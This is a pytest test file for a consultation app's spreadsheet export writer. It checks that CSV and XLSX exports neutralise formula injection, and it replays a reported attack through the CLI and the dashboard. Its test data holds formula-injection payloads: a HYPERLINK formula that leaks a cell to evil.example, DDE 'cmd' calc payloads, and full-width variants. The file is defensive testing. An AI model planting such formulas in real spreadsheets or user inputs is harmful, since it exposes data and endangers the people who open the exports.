"""The one export writer (storage/spreadsheet.py): no CSV or XLSX WithUs writes can run a
formula, and consultation exports carry only approved statements unless asked for all.

The attack from issue 18 is replayed end to end: a participant texts a statement that is
a live spreadsheet formula, a reviewer approves it, and an organiser exports it through
`withus consultation export` and through the dashboard's download. Both databases.
"""

from __future__ import annotations

import ast
import csv
import io
import random
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner
from flask import Flask
from openpyxl import load_workbook
from sqlalchemy import Engine, select

from bot.cli import main as withus
from bot.dashboard.auth import hash_password
from bot.services.runtime import Runtime
from bot.web.app import create_app
from storage.models import AuditEvent, Statement
from storage.repositories.consultations import ConsultationRepository
from storage.repositories.dashboard import DashboardRepository
from storage.spreadsheet import FORMULA_STARTS, csv_chunks, csv_text, neutralise, workbook
from tests.conftest_db import TEST_VAULT_KEY
from tests.consultation_sim import START, Person, Simulation, build_runtime
from tests.helpers import FakeClock
from tests.test_consultation_dashboard import PASSWORD, sign_in

ROOT = Path(__file__).resolve().parent.parent
#: The statement from the attack run: a live formula that leaks a neighbouring cell.
ATTACK = '=HYPERLINK("http://evil.example/?leak="&D3,"Read more")'
PENDING = "Care workers should be paid for the time they spend travelling."
REJECTED = "Something that is off topic for this consultation."
ORGANISER = "organiser@example.org"
PAGE = "/dashboard/consultations/fairpay"


# --- the writer on its own -------------------------------------------------------------------


@pytest.mark.parametrize("start", [*FORMULA_STARTS, " =", "\u3000=", "\u00a0+"])
def test_every_formula_start_gets_an_apostrophe(start: str) -> None:
    text = start + 'HYPERLINK("http://evil.example/")'
    assert neutralise(text) == "'" + text


def test_plain_text_and_numbers_are_left_alone() -> None:
    assert neutralise("Plain words = fine") == "Plain words = fine"
    assert neutralise("3-4 visits") == "3-4 visits"
    assert neutralise(-3) == -3 and neutralise(2.5) == 2.5 and neutralise(None) is None


def test_csv_neutralises_headers_and_cells_and_keeps_numbers() -> None:
    text = csv_text(["=header", "n"], [["\uff1dcmd|' /C calc'!A0", -1], ["@SUM(A1)", 7]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["'=header", "n"], ["'\uff1dcmd|' /C calc'!A0", "-1"], ["'@SUM(A1)", "7"]]
    with_bom = b"".join(csv_chunks(["a"], [["+1"]], flush_every=1)).decode("utf-8")
    assert with_bom == "\ufeffa\r\n'+1\r\n"


def test_an_xlsx_sheet_stores_every_text_cell_as_text(tmp_path: Path) -> None:
    from openpyxl.cell import WriteOnlyCell

    book = workbook()
    sheet = book.create_sheet("Sheet")
    sheet.freeze_panes = "A2"  # formatting works as on any write-only sheet
    styled = WriteOnlyCell(sheet, value=ATTACK)
    sheet.append(["=1+1", styled, "\x01=2+2", 5])
    book.save(tmp_path / "t.xlsx")
    cells = next(load_workbook(tmp_path / "t.xlsx")["Sheet"].iter_rows())
    assert [c.value for c in cells] == ["'=1+1", "'" + ATTACK, "'=2+2", 5]
    assert [c.data_type for c in cells] == ["s", "s", "s", "n"]


def test_no_module_but_the_writer_writes_csv_or_builds_a_workbook() -> None:
    """So formula neutralising cannot be forgotten: every CSV or XLSX goes through one place."""
    writer = ROOT / "storage" / "spreadsheet.py"
    offenders = []
    for package in ("bot", "storage", "channels", "surveys"):
        for path in (ROOT / package).rglob("*.py"):
            if path == writer:
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") \
                        and isinstance(node.value, ast.Name) and node.value.id == "csv":
                    offenders.append(f"{path.relative_to(ROOT)}: csv.{node.attr}")
                if isinstance(node, ast.ImportFrom) and (node.module or "").startswith(
                        "openpyxl") and any(a.name in ("Workbook", "WriteOnlyCell")
                                            for a in node.names):
                    offenders.append(f"{path.relative_to(ROOT)}: openpyxl.Workbook")
                if isinstance(node, ast.ImportFrom) and node.module == "csv" and any(
                        a.name in ("writer", "DictWriter") for a in node.names):
                    offenders.append(f"{path.relative_to(ROOT)}: from csv import writer")
    assert offenders == []


# --- the attack, replayed --------------------------------------------------------------------


def text_in(sim: Simulation, number: int, statement: str) -> None:
    """One person takes part by SMS and texts `statement` as their own point to vote on."""
    person = Person(number, "worker", "sms", random.Random(number))
    replies = sim.say(person, "FAIRPAY")
    replies = sim.say(person, "yes")
    for _guard in range(60):
        text = replies[-1]["text"]
        if text.startswith("Would you like to add a point"):
            sim.say(person, statement)
            return
        replies = sim.say(person, "3" if "Do you agree?" in text else "Everyone in care")
    raise AssertionError("never asked for a point of their own")


@pytest.fixture
def runtime(engine: Engine, tmp_path: Path) -> Iterator[Runtime]:
    clock = FakeClock(START)
    rt = build_runtime(engine.url.render_as_string(hide_password=False), tmp_path, clock)
    sim = Simulation(rt, clock, random.Random(18), prefix="attack")
    for number, statement in enumerate((ATTACK, PENDING, REJECTED), start=1):
        text_in(sim, number, statement)
    with rt.sessions() as session:
        statements = {s.text: s for s in session.scalars(
            select(Statement).where(Statement.author_id.is_not(None)))}
        assert set(statements) == {ATTACK, PENDING, REJECTED}  # stored as texted
        repo = ConsultationRepository(session)
        repo.moderate(statements[ATTACK].id, "approve", None, clock.now)
        repo.moderate(statements[REJECTED].id, "reject", None, clock.now, reason="off topic")
        DashboardRepository(session).add_user(ORGANISER, hash_password(PASSWORD),
                                               "organiser", clock.now)
        session.commit()
    yield rt
    rt.close()


def cli_env(runtime: Runtime, tmp_path: Path) -> dict[str, str]:
    return {"WITHUS_DATABASE_URL": runtime.settings.database_url,
            "WITHUS_INSTANCE_PATH": str(tmp_path / "inst"), "WITHUS_VAULT_KEYS": TEST_VAULT_KEY,
            "WITHUS_PSEUDONYM_KEY": "a-test-pseudonym-key-that-is-long-enough",
            "WITHUS_SECRET_KEY": "test", "WITHUS_LOG_FORMAT": "text"}


def no_live_formula(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    live = [cell for row in rows for cell in row
            if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"-\d+", cell)]
    assert live == [], f"cells a spreadsheet would run: {live}"
    return rows


def by_body(rows: list[list[str]]) -> dict[str, dict[str, str]]:
    header = rows[0]
    return {row[header.index("comment-body")]: dict(zip(header, row, strict=True))
            for row in rows[1:]}


def test_the_consultation_command_exports_the_attack_as_text(runtime: Runtime,
                                                             tmp_path: Path) -> None:
    cli = CliRunner(env=cli_env(runtime, tmp_path))
    out = tmp_path / "approved"
    result = cli.invoke(withus, ["consultation", "export", "fairpay", "--output-dir", str(out)])
    assert result.exit_code == 0, result.output
    statements = by_body(no_live_formula((out / "statements.csv").read_text("utf-8")))
    assert statements["'" + ATTACK]["status"] == "approved"
    assert PENDING not in statements and REJECTED not in statements
    for name in ("votes.csv", "participants-votes.csv"):
        no_live_formula((out / name).read_text("utf-8"))

    every = tmp_path / "all"
    result = cli.invoke(withus, ["consultation", "export", "fairpay", "--output-dir",
                                 str(every), "--all-statements"])
    assert result.exit_code == 0, result.output
    statements = by_body(no_live_formula((every / "statements.csv").read_text("utf-8")))
    assert (statements[PENDING]["status"], statements[PENDING]["moderated"]) == ("pending", "0")
    assert (statements[REJECTED]["status"], statements[REJECTED]["moderated"]) == (
        "rejected", "-1")
    assert statements["'" + ATTACK]["status"] == "approved"
    matrix = list(csv.reader(io.StringIO((every / "participants-votes.csv").read_text())))
    ids = {row["comment-id"] for row in statements.values()}
    assert set(matrix[0][6:]) == ids
    with runtime.sessions() as session:
        details = [e.detail for e in session.scalars(select(AuditEvent).where(
            AuditEvent.action == "consultation.export").order_by(AuditEvent.id))]
    assert details == [{"statements": "approved"}, {"statements": "all"}]


def test_the_dashboard_download_exports_the_attack_as_text(runtime: Runtime) -> None:
    app: Flask = create_app(runtime=runtime)
    client = sign_in(app, ORGANISER)
    page = client.get(PAGE).get_data(as_text=True)
    assert 'name="statements" value="all"' in page
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page)
    assert csrf
    reply = client.post(f"{PAGE}/export/statements.csv", data={"csrf_token": csrf.group(1)})
    assert reply.status_code == 200
    statements = by_body(no_live_formula(reply.get_data(as_text=True)))
    assert set(statements) >= {"'" + ATTACK} and PENDING not in statements
    assert REJECTED not in statements

    every = client.post(f"{PAGE}/export/statements.csv",
                        data={"csrf_token": csrf.group(1), "statements": "all"})
    statements = by_body(no_live_formula(every.get_data(as_text=True)))
    assert statements[PENDING]["status"] == "pending"
    assert statements[REJECTED]["status"] == "rejected"
    for name in ("votes.csv", "participants-votes.csv"):
        for choice in ("approved", "all"):
            reply = client.post(f"{PAGE}/export/{name}",
                                data={"csrf_token": csrf.group(1), "statements": choice})
            assert reply.status_code == 200
            no_live_formula(reply.get_data(as_text=True))
    with runtime.sessions() as session:
        details = [e.detail for e in session.scalars(select(AuditEvent).where(
            AuditEvent.action == "consultation.export").order_by(AuditEvent.id))]
    assert details[:2] == [{"file": "statements.csv", "statements": "approved"},
                           {"file": "statements.csv", "statements": "all"}]


# --- survey exports: the full-width forms a spreadsheet also runs ----------------------------


FULL_WIDTH = ["\uff1dHYPERLINK(\"http://evil.example/\",\"x\")", " =1+1", "\uff20SUM(A1)",
              "\ufe62cmd|' /C calc'!A0"]


def test_survey_exports_neutralise_full_width_formulas(database_url: str,
                                                       tmp_path: Path) -> None:
    from tests.browser.seed import Person, add_user, seed
    from tests.helpers import make_runtime

    rt = make_runtime(database_url, tmp_path, clock=FakeClock())
    try:
        add_user(rt, ORGANISER, "organiser", PASSWORD)
        seed(rt, "fft", [Person({"overall": "poor", "why": text}) for text in FULL_WIDTH])
        client = sign_in(create_app(runtime=rt), ORGANISER)
        survey = "/dashboard/surveys/fft"
        csrf = re.search(r'name="csrf_token" value="([^"]+)"',
                         client.get(survey).get_data(as_text=True))
        assert csrf
        column = "What was good, and what could be better? [why]"
        reply = client.post(f"{survey}/export", data={
            "format": "csv", "ids": "random", "responses": "1", "csrf_token": csrf.group(1)})
        rows = list(csv.reader(io.StringIO(reply.get_data().decode("utf-8-sig"))))
        assert [r[rows[0].index(column)] for r in rows[1:]] == ["'" + t for t in FULL_WIDTH]

        reply = client.post(f"{survey}/export", data={
            "format": "xlsx", "ids": "random", "responses": "1", "csrf_token": csrf.group(1)})
        (tmp_path / "d.xlsx").write_bytes(reply.get_data())
        sheet = load_workbook(tmp_path / "d.xlsx")["Responses"]
        values = [[c.value for c in row] for row in sheet.iter_rows()]
        assert [r[values[0].index(column)] for r in values[1:]] == ["'" + t for t in FULL_WIDTH]

        out = tmp_path / "cli.csv"
        result = CliRunner(env=cli_env(rt, tmp_path)).invoke(
            withus, ["export", "fft", "--format", "csv", "--output", str(out)])
        assert result.exit_code == 0, result.output
        rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
        assert [r[rows[0].index(column)] for r in rows[1:]] == ["'" + t for t in FULL_WIDTH]
    finally:
        rt.close()
